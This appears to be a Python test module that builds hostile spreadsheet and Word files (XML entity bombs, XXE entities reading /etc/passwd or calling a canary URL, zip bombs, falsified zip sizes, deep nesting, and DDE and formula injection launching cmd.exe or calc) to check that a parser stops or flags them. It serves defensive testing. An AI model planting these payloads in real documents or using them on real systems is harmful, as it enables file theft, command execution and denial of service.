# ruff: noqa: E501  what is handed in stands as it is
"""XLSX, DOCX and ODS: entities, sizes that are only said, formulas and links."""

import io
import re
from functools import cache
from zipfile import ZIP_DEFLATED, ZipFile

from docx import Document as Word
from hostile.archives import zipped
from hostile.catalogue import MARKED, STOPPED, register, trap
from xlsxwriter import Workbook

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
ODF = "urn:oasis:names:tc:opendocument:xmlns"
ANSWERS = (
    ("Ejemplo 4",),
    ("Capa", "Out Shape", "# de Pesos", "# de Sesgos", "# de Parámetros"),
    ("CONV1", "(32, 32, 8)", "600", "8", "608"),
    ("FC", "(10, 1)", "20480", "10", "20490"),
)


@cache
def book_parts():
    stream = io.BytesIO()
    with Workbook(stream) as book:
        sheet = book.add_worksheet("Ejemplo 4")
        for i, row in enumerate(ANSWERS):
            sheet.write_row(i, 0, row)
    return parts_of(stream.getvalue())


@cache
def word_parts():
    stream = io.BytesIO()
    document = Word()
    document.add_heading("Ejemplo 4", 1)
    table = document.add_table(0, 5)
    for row in ANSWERS[1:]:
        for cell, text in zip(table.add_row().cells, row, strict=True):
            cell.text = text
    document.save(stream)
    return parts_of(stream.getvalue())


@cache
def calc_parts():
    cells = "".join(f"<table:table-row>{calc_row(row)}</table:table-row>" for row in ANSWERS)
    return {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": calc_content(cells)}


def calc_row(texts):
    return "".join(f"<table:table-cell><text:p>{text}</text:p></table:table-cell>" for text in texts)


def calc_content(rows):
    spaces = "".join(f' xmlns:{name}="{ODF}:{name}:1.0"' for name in ("office", "table", "text"))
    return (
        f"<office:document-content{spaces}><office:body><office:spreadsheet>"
        f'<table:table table:name="Ejemplo 4">{rows}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    ).encode()


def parts_of(data):
    with ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def book(**changed):
    """The workbook with some of its parts replaced, by the last word of their names."""
    return package(book_parts(), changed)


def word(**changed):
    return package(word_parts(), changed)


def calc(**changed):
    return package(calc_parts(), changed)


def package(parts, changed):
    short = {name: name.rsplit("/", 1)[-1].split(".")[0] for name in parts}
    assert set(changed) <= set(short.values())
    return zipped(*((name, changed.get(short[name], part)) for name, part in parts.items()))


LAUGHS = b"<!DOCTYPE x [<!ENTITY a0 'ja'>%s]>" % b"".join(
    b"<!ENTITY a%d '%s'>" % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 10)
)
QUADRATIC = b"<!DOCTYPE x [<!ENTITY a '%s'>]>" % (b"ja" * 50_000)


def outside(canary, address):
    return f"<!DOCTYPE x [<!ENTITY a SYSTEM '{address}'><!ENTITY % p SYSTEM '{canary.url}-parametro'>%p;]>".encode()


def with_entity(part, doctype, entity=b"&a;"):
    """The document type before the root, the entity in the place of the first answer."""
    head, mark, rest = part.partition(b"?>\n") if part.startswith(b"<?xml") else (b"", b"", part)
    return head + mark + doctype + rest.replace(b"600", entity * (50_000 if doctype is QUADRATIC else 1), 1)


PLACES = {"xlsx": (book, book_parts, "sharedStrings", "xl/sharedStrings.xml"),
          "docx": (word, word_parts, "document", "word/document.xml"),
          "ods": (calc, calc_parts, "content", "content.xml")}  # fmt: skip


def of_entity(form, kind):
    """A package whose text goes through an entity; `kind` says through which."""
    write, parts, short, name = PLACES[form]

    def make(canary):
        doctypes = {
            "risas": (LAUGHS, b"&a9;"),
            "cuadratica": (QUADRATIC, b"&a;"),
            "archivo": (outside(canary, canary.secret), b"&a;"),
            "passwd": (outside(canary, "file:///etc/passwd"), b"&a;"),
            "red": (outside(canary, canary.url), b"&a;"),
            "dtd": (f"<!DOCTYPE x PUBLIC 'x' '{canary.url}.dtd'>".encode(), b"600"),
        }
        return write(**{short: with_entity(parts()[name], *doctypes[kind])})

    return make


for form in PLACES:
    for kind in ("risas", "cuadratica", "archivo", "passwd", "red", "dtd"):
        register(
            f"{form}-entidad-{kind}", f"entidad-{kind}.{form}", of_entity(form, kind), STOPPED, "declara entidades"
        )


def sheet(*rows):
    return f'<worksheet xmlns="{MAIN}"><sheetData>{"".join(rows)}</sheetData></worksheet>'.encode()


@trap("lejos.xlsx", STOPPED, "filas")
def xlsx_sparse(_):
    """Two cells at the two ends of a sheet: 17 thousand million cells if it is laid out."""
    first = '<row r="1"><c r="A1"><v>1</v></c></row>'
    return book(sheet1=sheet(first, '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))


@trap("lejos-sin-decirlo.xlsx", STOPPED)
def xlsx_sparse_said_oddly(_):
    first = "<row r='1'><c r='A1'><v>1</v></c></row>"
    return book(sheet1=sheet(first, "<row r='1048576'><c\n r = 'XFD1048576'><v>1</v></c></row>"))


@trap("dimension.xlsx", MARKED)
def xlsx_dimension(_):
    """The sheet only says that it is so large."""
    part = book_parts()["xl/worksheets/sheet1.xml"]
    return book(sheet1=part.replace(b'ref="A1:E4"', b'ref="A1:XFD1048576"'))


@trap("millones.xlsx", STOPPED)
def xlsx_10_million_cells(_):
    """Reduced to 2.5 million, 67 MB of XML: the limit for a row strikes at the first."""
    row = "<row>" + "<c><v>1</v></c>" * 1_000 + "</row>"
    return book(sheet1=sheet(row * 2_500))


@trap("justo.xlsx")
def xlsx_just_below_the_limits(_):
    """120 000 cells."""
    cells = [f'<c r="{"ABCDEFGHIJKLMNOPQRSTUVWXYZ"[i % 26]}%d"><v>1</v></c>' for i in range(12)]
    row = f'<row r="%d">{"".join(cells)}</row>'
    return book(sheet1=sheet(*(row % ((i,) * 13) for i in range(1, 9_990))))


@trap("textos.xlsx", STOPPED, "repetido")
def xlsx_shared_text(_):
    """One text of 30 000 letters in 10 000 cells."""
    rows = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(1, 9_000))
    return book(sheet1=sheet(rows), sharedStrings=f'<sst xmlns="{MAIN}"><si><t>{"á" * 30_000}</t></si></sst>'.encode())


@trap("muchos-textos.xlsx")
def xlsx_many_shared_texts(_):
    """A million texts for the six that are used."""
    shared = book_parts()["xl/sharedStrings.xml"].replace(b"</sst>", b"<si><t>x</t></si>" * 1_000_000 + b"</sst>")
    return book(sharedStrings=shared)


@trap("contados.xlsx", STOPPED, "dañado")
def xlsx_count_of_texts(_):
    """It says that it holds 4 000 million texts: calamine asks for room for them, and the process ends."""
    return book(sharedStrings=claiming(book_parts()["xl/sharedStrings.xml"]))


@trap("contados-en-mayusculas.xlsx", STOPPED, "dañado")
def xlsx_count_of_texts_in_capitals(_):
    """Under a name that only calamine takes for the same."""
    parts = dict(book_parts())
    return zipped(*parts.items(), ("XL/SharedStrings.XML", claiming(parts.pop("xl/sharedStrings.xml"))))


def claiming(shared):
    return re.sub(rb'uniqueCount="\d+"', b'uniqueCount="4000000000"', shared)


@trap("indices.xlsx")
def xlsx_bad_indices(_):
    """Texts, styles and shared formulas that do not exist."""
    cells = "".join(
        f'<row r="{i}"><c r="A{i}" t="s" s="99999"><v>{n}</v></c></row>'
        for i, n in enumerate(("-1", "99999999999999999999", "NaN", "", "1e9", "0x10"), 1)
    )
    return book(sheet1=sheet(cells))


@trap("formulas.xlsx")
def xlsx_formulas(canary):
    """Formulas that would start a program or call home; what is stored beside them is text."""
    danger = (
        "=cmd|' /C calc'!A0",
        f'=WEBSERVICE("{canary.url}")',
        f'=HYPERLINK("{canary.url}","600")',
        f'=IMPORTXML("{canary.url}","//a")',
        "=[libro.xlsx]Hoja1!A1",
        f'=DDE("cmd";"/C touch {canary.path("dde")}";"1")',
        f"@SUM(1+1)*cmd|' /C touch {canary.path('sum')}'!A0",
    )
    stream = io.BytesIO()
    with Workbook(stream) as made:
        page = made.add_worksheet("Ejemplo 4")
        page.write_row(0, 0, ANSWERS[1])
        page.write_row(1, 0, ("CONV1", *danger[:4]))
        for column, text in enumerate(danger[:4], 1):
            page.write_formula(2, column, text, value=text)
        page.write_string(2, 0, "FC")
        page.write_row(3, 0, ("Total", *danger[4:]))
    return stream.getvalue()


@trap("externo.xlsx")
def xlsx_external_and_cyclic_links(canary):
    """Parts that refer to the network, to themselves and to each other."""
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="x/worksheet" Target="../xl/workbook.xml"/>'
        f'<Relationship Id="rId2" Type="x/externalLink" Target="{canary.url}" TargetMode="External"/>'
        '<Relationship Id="rId3" Type="x/officeDocument" Target="../../../../../../etc/passwd"/></Relationships>'
    )
    parts = book_parts() | {"xl/_rels/workbook.xml.rels": relations.encode()}
    return zipped(*parts.items())


@trap("formula-circular.xlsx", MARKED)
def xlsx_cyclic_formulas(_):
    part = sheet(
        '<row r="1"><c r="A1" t="str"><v>Capa</v></c><c r="B1" t="str"><v>Pesos</v></c></row>'
        '<row r="2"><c r="A2" t="str"><v>CONV1</v></c><c r="B2"><f>B3</f><v>600</v></c></row>'
        '<row r="3"><c r="A3" t="str"><v>FC</v></c><c r="B3"><f>B2</f><v>20480</v></c></row>'
    )
    return book(sheet1=part)


@trap("bomba.xlsx", STOPPED, "descomprimirse")
def xlsx_bomb(_):
    return zipped(*book_parts().items(), ("xl/media/image1.png", bytes(120_000_000)))


@trap("miente.xlsx", STOPPED)
def xlsx_says_less(_):
    """A part of 60 MB that the directory says is of 100 bytes."""
    stream = io.BytesIO()
    with ZipFile(stream, "w", ZIP_DEFLATED) as archive:
        for name, part in book_parts().items():
            archive.writestr(name, bytes(60_000_000) if name == "xl/styles.xml" else part)
        archive.getinfo("xl/styles.xml").file_size = 100
    return stream.getvalue()


@trap("repetida.xlsx", STOPPED, "repetidas")
def xlsx_part_twice(_):
    return zipped(*book_parts().items(), ("xl/workbook.xml", b"<otro/>"))


@trap("honda.docx")
def docx_deep(_):
    """100 000 tables inside one another."""
    deep = "<w:tbl><w:tr><w:tc>" * 100_000
    return word(document=f'<w:document xmlns:w="{WORD}"><w:body>{deep}'.encode())


@trap("tablas.docx")
def docx_tables_inside_tables(_):
    """As deep as the parser goes, well formed."""
    opened, closed = "<w:tbl><w:tr><w:tc><w:p/>", "</w:tc></w:tr></w:tbl>"
    body = opened * 80 + "<w:p><w:r><w:t>600</w:t></w:r></w:p>" + closed * 80
    return word(document=f'<w:document xmlns:w="{WORD}"><w:body>{body * 20}</w:body></w:document>'.encode())


@trap("celdas.docx")
def docx_just_below_the_limits(_):
    row = "<w:tr>" + "<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>" * 5 + "</w:tr>"
    return word(
        document=f'<w:document xmlns:w="{WORD}"><w:body><w:tbl>{row * 9_000}</w:tbl></w:body></w:document>'.encode()
    )


@trap("campos.docx", MARKED)
def docx_fields_and_links(canary):
    """Fields that would fetch a picture, start a program or insert another file."""
    code = f'INCLUDEPICTURE "{canary.url}" \\d; DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"; INCLUDETEXT "{canary.secret}"'
    part = word_parts()["word/document.xml"].decode()
    field = f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>"
    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId99" '
        f'Type="x/attachedTemplate" Target="{canary.url}.dotm" TargetMode="External"/></Relationships>'
    )
    parts = word_parts() | {"word/document.xml": part.replace("<w:body>", f"<w:body>{field}").encode()}
    parts["word/_rels/settings.xml.rels"] = link.encode()
    return zipped(*parts.items())


@trap("repetida.ods", STOPPED)
def ods_repeated(_):
    """One cell said to stand 10 000 000 times in each of 10 000 000 rows."""
    cell = '<table:table-cell table:number-columns-repeated="10000000"><text:p>1</text:p></table:table-cell>'
    return calc(
        content=calc_content(f'<table:table-row table:number-rows-repeated="10000000">{cell}</table:table-row>')
    )


@trap("espacios.ods")
def ods_spaces(_):
    cell = f"<table:table-cell><text:p>{'<text:s text:c=' + chr(34) + '99999' + chr(34) + '/>'}6</text:p></table:table-cell>"
    return calc(content=calc_content(f"<table:table-row>{cell * 200}</table:table-row>" * 200))


@trap("formulas.ods", MARKED)
def ods_formulas(canary):
    row = "".join(
        f'<table:table-cell table:formula="of:={formula}"><text:p>600</text:p></table:table-cell>'
        for formula in (
            f"WEBSERVICE(&quot;{canary.url}&quot;)",
            "DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)",
            "[.B2]",
        )
    )
    rows = f"<table:table-row>{calc_row(ANSWERS[1])}</table:table-row><table:table-row>{calc_row(['CONV1', ''])}{row}</table:table-row>"
    return calc(content=calc_content(rows))
